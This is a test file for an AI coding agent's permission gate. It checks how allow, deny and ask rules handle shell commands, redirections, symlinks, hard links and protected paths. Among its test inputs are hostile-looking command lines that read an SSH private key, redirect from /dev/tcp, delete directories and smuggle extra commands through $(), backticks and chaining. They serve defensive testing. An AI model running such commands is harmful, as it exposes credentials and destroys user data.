import { linkSync, mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, sep } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { PermissionGate } from '../../src/core/agent/permissions/permission-gate';
import { permissionSettingsSchema, type PermissionSettings } from '../../src/core/agent/permissions/permission-settings';
import { createBashTool } from '../../src/core/agent/tools/bash-tool';
import { createEditTool } from '../../src/core/agent/tools/edit-tool';
import { createReadTool } from '../../src/core/agent/tools/read-tool';
import { createWriteTool } from '../../src/core/agent/tools/write-tool';
import type { Tool } from '../../src/core/agent/tools/tool';

let base: string;
let ws: string;

beforeEach(() => {
  base = realpathSync(mkdtempSync(join(tmpdir(), 'permission-gate-')));
  ws = join(base, 'ws');
  mkdirSync(join(ws, '.vscode'), { recursive: true });
  mkdirSync(join(ws, 'src'));
  mkdirSync(join(base, 'outside'));
  writeFileSync(join(ws, '.vscode', 'hooks.json'), '{}');
  writeFileSync(join(ws, '.env'), 'SECRET=1');
  writeFileSync(join(base, 'outside', 'secret.txt'), 'secret');
});
afterEach(() => rmSync(base, { recursive: true, force: true }));

const bash = createBashTool() as unknown as Tool;
const write = createWriteTool() as unknown as Tool;
const edit = createEditTool() as unknown as Tool;
const read = createReadTool() as unknown as Tool;

function gate(settings: Partial<PermissionSettings> = {}) {
  const g = new PermissionGate(() => permissionSettingsSchema.parse(settings));
  const ctx = () => ({ workspaceRoot: ws, cwd: ws, home: join(ws, 'home'), protectedPaths: [join(ws, '.vscode', 'hooks.json')] });
  return {
    gate: g,
    run: (command: string) => g.evaluate(bash, { command }, undefined, ctx()),
    tool: (tool: Tool, input: Record<string, unknown>) => g.evaluate(tool, input, undefined, ctx()),
  };
}

describe('PermissionGate: a check that breaks', () => {
  it('denies the call with the error rather than throwing out of the gate, in every mode', () => {
    const broken = {
      ...read,
      target: () => {
        throw new Error('no target for you');
      },
    } as Tool;
    for (const mode of ['default', 'bypassPermissions'] as const) {
      expect(gate({ mode, allow: ['Read'] }).tool(broken, { file_path: 'x' })).toMatchObject({
        verdict: 'deny',
        level: 'P0',
        reason: expect.stringContaining('no target for you'),
      });
    }
  });
});

describe('PermissionGate: Bash allow rules', () => {
  it('allows a line only when every subcommand matches an allow rule', () => {
    const { run } = gate({ allow: ['Bash(git *)'] });
    expect(run('git status && git log')).toMatchObject({ verdict: 'allow', level: 'P7' });
    for (const command of [
      'git status && touch ../x',
      'git log $(touch ../x)',
      'git log `touch ../x`',
      'git status; touch ../x',
      'git status | touch ../x',
      'git status\ntouch ../x',
    ]) {
      expect(run(command), command).toMatchObject({ verdict: 'ask', level: 'P8' });
    }
  });

  it('combines a settings rule and a session rule for one line', () => {
    const { gate: g, run } = gate({ allow: ['Bash(git *)'] });
    g.allowForSession('Bash(npm test)');
    expect(run('npm test && git push')).toMatchObject({ verdict: 'allow', source: 'session rule Bash(npm test), Bash(git *)' });
  });

  it('treats a write redirection as an edit of its target', () => {
    expect(gate({ allow: ['Bash(git *)'] }).run('git log > log.txt')).toMatchObject({ verdict: 'ask' });
    expect(gate({ allow: ['Bash(git *)'], mode: 'acceptEdits' }).run('git log > log.txt')).toMatchObject({ verdict: 'allow' });
    expect(gate({ allow: ['Bash(git *)', 'Edit(*.txt)'] }).run('git log >> log.txt')).toMatchObject({ verdict: 'allow' });
    expect(gate({ allow: ['Bash(git *)'] }).run('git log > /dev/null 2>&1')).toMatchObject({ verdict: 'allow' });
    for (const command of ['git log > ../x', 'git log > ~/x', 'git log > ~root/x', 'git log &> /tmp/x', 'git log > "$OUT"']) {
      expect(gate({ allow: ['Bash(git *)'], mode: 'acceptEdits' }).run(command), command).toMatchObject({ verdict: 'ask' });
    }
  });

  it('does not trust a redirection whose meaning the line itself can change', () => {
    const { run } = gate({ allow: ['Bash(git *)', 'Bash(ln *)', 'Bash(cd *)'], mode: 'acceptEdits' });
    expect(run('git log > src/log.txt')).toMatchObject({ verdict: 'allow' });
    for (const command of ['ln -s .. up && git log > up/x', 'cd .. && git log > x', 'git log > new-dir/x']) {
      expect(run(command), command).toMatchObject({ verdict: 'ask' });
    }
  });

  it('does not grant input redirections from outside the workspace', () => {
    const { run } = gate({ allow: ['Bash(git *)'] });
    expect(run('git apply < fix.patch')).toMatchObject({ verdict: 'allow' });
    expect(run('git apply < /dev/null')).toMatchObject({ verdict: 'allow' });
    for (const command of [
      'git commit -F - < ~/.ssh/id_rsa',
      'git apply < /dev/tcp/example.com/80',
      'git apply < ../x',
      'git apply < "$P"',
    ]) {
      expect(run(command), command).toMatchObject({ verdict: 'ask' });
    }
  });

  it('lets the bare Bash rule write inside the workspace, never outside', () => {
    expect(gate({ allow: ['Bash'] }).run('echo made > made.txt')).toMatchObject({ verdict: 'allow' });
    expect(gate({ allow: ['Bash'] }).run('echo made > ../made.txt')).toMatchObject({ verdict: 'ask' });
  });

  it('denies a redirection into a file an Edit deny rule covers', () => {
    expect(gate({ allow: ['Bash(echo *)'], deny: ['Edit(secrets/**)'] }).run('echo x > secrets/key')).toMatchObject({
      verdict: 'deny',
      level: 'P1',
    });
  });

  it('asks when a deny rule might match but cannot be checked', () => {
    const { run } = gate({ allow: ['Bash'], deny: ['Bash(rm *)'] });
    expect(run('$CMD -rf x')).toMatchObject({
      verdict: 'ask',
      level: 'P6',
      reason: expect.stringContaining('cannot tell whether deny rule Bash(rm *)'),
    });
    expect(run('echo "unterminated; rm -rf x')).toMatchObject({ verdict: 'deny', level: 'P1' });
    expect(run('echo $HOME')).toMatchObject({ verdict: 'allow' });
  });
});

describe('PermissionGate: settings rules that do not parse', () => {
  it('a broken deny or ask rule stands for its whole tool, in every mode; a broken allow rule grants nothing', () => {
    expect(gate({ mode: 'bypassPermissions', deny: ['Bash(rm -rf *'] }).run('rm -rf keep')).toMatchObject({ verdict: 'deny', level: 'P1' });
    expect(gate({ mode: 'bypassPermissions', deny: ['Bash(rm -rf *'] }).run('ls')).toMatchObject({ verdict: 'deny', level: 'P1' });
    expect(gate({ mode: 'bypassPermissions', deny: ['Read (.env)'] }).tool(read, { file_path: '.env' })).toMatchObject({
      verdict: 'deny',
    });
    // No tool name to go by: every tool.
    expect(gate({ mode: 'bypassPermissions', deny: ['(rm *)'] }).tool(read, { file_path: 'src/a.ts' })).toMatchObject({
      verdict: 'deny',
    });
    expect(gate({ mode: 'acceptEdits', ask: ['Edit(src/**'] }).tool(write, { file_path: 'src/a.ts', content: '' })).toMatchObject({
      verdict: 'ask',
    });
    expect(gate({ mode: 'default', allow: ['Bash(ls *'] }).run('ls')).toMatchObject({ verdict: 'ask', level: 'P8' });
  });
});

describe('PermissionGate: protected files, physically', () => {
  it('asks a person for any Bash word that leads to a protected file or its directory, in every mode', () => {
    symlinkSync(join(ws, '.vscode'), join(ws, 'vs'));
    mkdirSync(join(ws, '.vscode', 'sub'));
    symlinkSync(join(ws, '.vscode', 'sub'), join(ws, 'deep'));
    const { run } = gate({ mode: 'bypassPermissions' });
    for (const command of [
      'echo {} > deep/../hooks.json',
      'cat .vscode/hooks.json',
      'echo {} > vs/hooks.json',
      'rm -rf .vscode',
      'ln -s .vscode other',
      "mv ./.vs''code/ x",
      'cp x .vs*/hooks.json',
      'cp x .vscode/$NAME',
      "bash -c 'rm vs/hooks.json'",
      'tool --config=.vscode/hooks.json',
      'echo x > "$OUT"',
    ]) {
      expect(run(command), command).toMatchObject({ verdict: 'ask', level: 'P4', system: true });
    }
    expect(run('ls src && echo $HOME')).toMatchObject({ verdict: 'allow' });
  });

  it('asks for an Edit or Write through a symlink to a protected file', () => {
    symlinkSync(join(ws, '.vscode'), join(ws, 'vs'));
    symlinkSync(join(ws, '.vscode', 'hooks.json'), join(ws, 'h.json'));
    const { tool } = gate({ mode: 'bypassPermissions' });
    expect(tool(write, { file_path: join(ws, 'vs', 'hooks.json'), content: '{}' })).toMatchObject({ verdict: 'ask', system: true });
    expect(tool(edit, { file_path: join(ws, 'h.json'), old_string: '{', new_string: '[' })).toMatchObject({ verdict: 'ask', system: true });
  });

  it('denies file tools a hard-linked file whose other name is outside', () => {
    linkSync(join(base, 'outside', 'secret.txt'), join(ws, 'notes.txt'));
    const { tool } = gate({ mode: 'bypassPermissions' });
    expect(tool(read, { file_path: join(ws, 'notes.txt') })).toMatchObject({
      verdict: 'deny',
      level: 'P0',
      reason: expect.stringContaining('hard links'),
    });
    expect(tool(write, { file_path: join(ws, 'notes.txt'), content: 'x' })).toMatchObject({ verdict: 'deny', level: 'P0' });
  });

  it('denies a path that cannot be resolved, and does not grant a redirection to one', () => {
    symlinkSync(join(ws, 'loop-b'), join(ws, 'loop-a'));
    symlinkSync(join(ws, 'loop-a'), join(ws, 'loop-b'));
    expect(gate({ mode: 'bypassPermissions' }).tool(write, { file_path: join(ws, 'loop-a', 'x'), content: '' })).toMatchObject({
      verdict: 'deny',
      level: 'P0',
    });
    expect(gate({ allow: ['Bash(git *)'], mode: 'acceptEdits' }).run('git log > loop-a/x')).toMatchObject({ verdict: 'ask' });
  });

  it('asks for an edit of any .git folder or file, not only the root one, in an additional directory too', () => {
    const { tool } = gate({ mode: 'bypassPermissions', additionalDirectories: [join(base, 'outside')] });
    for (const file of [join(ws, 'sub', '.git', 'config'), join(ws, 'docs', '.git'), join(base, 'outside', '.git', 'hooks', 'pre-commit')])
      expect(tool(write, { file_path: file, content: 'x' }), file).toMatchObject({ verdict: 'ask', level: 'P4', system: true });
    expect(tool(write, { file_path: join(ws, 'src', 'git.txt'), content: 'x' })).toMatchObject({ verdict: 'allow' });
  });

  it('matches file rules on the path as given and as resolved', () => {
    symlinkSync(join(ws, '.env'), join(ws, 'src', 'config'));
    expect(gate({ deny: ['Read(**/.env*)'] }).tool(read, { file_path: join(ws, 'src', 'config') })).toMatchObject({
      verdict: 'deny',
      level: 'P1',
    });
    // Edit(src/**) does not grant a file that src/config really is (.env, outside src).
    expect(
      gate({ allow: ['Edit(src/**)'] }).tool(edit, { file_path: join(ws, 'src', 'config'), old_string: 'a', new_string: 'b' }),
    ).toMatchObject({ verdict: 'ask' });
    expect(
      gate({ allow: ['Edit(src/**)'] }).tool(edit, { file_path: join(ws, 'src', 'a.ts'), old_string: 'a', new_string: 'b' }),
    ).toMatchObject({ verdict: 'allow' });
  });
});

describe('PermissionGate: MCP path arguments', () => {
  const mcpTool = (name: string, readsOnly: boolean) => ({ name, category: 'execute', readsOnly }) as unknown as Tool;
  const storage = () => join(ws, '.hookpilot') + sep;
  function check(tool: Tool, input: Record<string, unknown>) {
    const g = new PermissionGate(() => permissionSettingsSchema.parse({ mode: 'bypassPermissions' }));
    const privatePaths = [storage()];
    const ctx = {
      workspaceRoot: ws,
      cwd: ws,
      home: join(ws, 'home'),
      protectedPaths: [join(ws, '.vscode', 'hooks.json'), ...privatePaths],
      privatePaths,
    };
    return g.evaluate(tool, input, undefined, ctx);
  }

  it("a read-only tool that names Hookpilot's storage asks; one that names the hook configuration does not", () => {
    const read = mcpTool('mcp__fs__read_text_file', true);
    for (const file of [join(ws, '.hookpilot', 'projects', 'p', 'transcripts', 's.jsonl'), '.hookpilot/projects/p/audit/s.jsonl'])
      expect(check(read, { path: file }), file).toMatchObject({
        verdict: 'ask',
        system: true,
        reason: expect.stringContaining('session records'),
      });
    expect(check(read, { path: '.vscode/hooks.json' })).toMatchObject({ verdict: 'allow' });
  });

  it('a tool that may write asks for a path into any .git folder', () => {
    const write = mcpTool('mcp__fs__write_file', false);
    for (const file of ['sub/.git/config', 'docs/.git', `file://${ws}/sub/.git/hooks/pre-commit`])
      expect(check(write, { path: file, content: 'x' }), file).toMatchObject({ verdict: 'ask', system: true });
    expect(check(write, { path: 'src/git.txt', content: 'x' })).toMatchObject({ verdict: 'allow' });
  });
});
